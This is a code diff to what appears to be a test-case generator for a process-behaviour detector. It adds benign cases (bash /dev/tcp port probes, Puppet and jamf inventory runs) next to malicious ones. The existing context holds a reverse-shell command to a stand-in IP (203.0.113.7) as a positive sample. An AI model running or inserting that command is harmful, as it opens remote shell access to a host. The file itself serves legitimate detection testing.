@@ -168,6 +168,9 @@ def _(pos: bool):
     else:
         t.spawn(sh, "/usr/bin/grep", ["grep", "-rn", "/dev/tcp/", "/etc/"], stdout="pipe")
         t.spawn(sh, "/usr/bin/cat", ["cat", "/proc/net/tcp"])
+        # a container health check: a bare port probe, no shell on the socket
+        t.spawn(sh, "/usr/bin/timeout", ["timeout", "1", "bash", "-c", "</dev/tcp/127.0.0.1/5432"])
+        t.spawn(sh, "/usr/bin/bash", ["bash", "-c", "echo > /dev/tcp/db.internal/5432"])
     return t
 
 
@@ -600,6 +603,14 @@ def _(pos: bool):
         for name, args in RECON[5:]:
             c = t.spawn(sh, f"/usr/bin/{name}", args)
             t.exit(c)
+        # a Puppet run: facter probes the system from the agent's ruby
+        pup = t.root("/opt/puppetlabs/puppet/bin/ruby", ["/opt/puppetlabs/puppet/bin/ruby",
+                     "/opt/puppetlabs/puppet/bin/puppet", "agent", "--onetime", "--no-daemonize"],
+                     parent_exe="/usr/lib/systemd/systemd", ppid=1)
+        for name, args in RECON + [("lscpu", ["lscpu"]), ("hostnamectl", ["hostnamectl"])]:
+            c = t.spawn(pup, f"/usr/bin/{name}", args, stdout="pipe")
+            t.exit(c)
+            t.tick(40)
     return t
 
 
@@ -847,6 +858,7 @@ def _(pos: bool):
         mspawn(t, sh, "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/8443 0>&1"])
     else:
         mspawn(t, sh, "/usr/bin/grep", ["grep", "-r", "/dev/tcp/", "notes/"])
+        mspawn(t, sh, "/bin/bash", ["bash", "-c", "</dev/tcp/localhost/5432 && echo up"])
         mspawn(t, sh, "/bin/zsh", ["zsh", "-c", "zmodload zsh/datetime; echo $EPOCHSECONDS"])
     return t
 
@@ -1235,6 +1247,14 @@ def _(pos: bool):
         c = mspawn(t, parent, exe, args, stdout="pipe")
         t.exit(c)
         t.tick(200 if pos else 15_000)
+    if not pos:
+        # jamf recon inventories the Mac with the same commands
+        jamf = t.root("/usr/local/jamf/bin/jamf", ["/usr/local/jamf/bin/jamf", "recon"],
+                      parent_exe="/sbin/launchd", signing={"signing_id": "com.jamfsoftware.jamf", "team_id": "483DWKW443"})
+        for exe, args in MAC_RECON:
+            c = mspawn(t, jamf, exe, args, stdout="pipe")
+            t.exit(c)
+            t.tick(100)
     return t
 
 
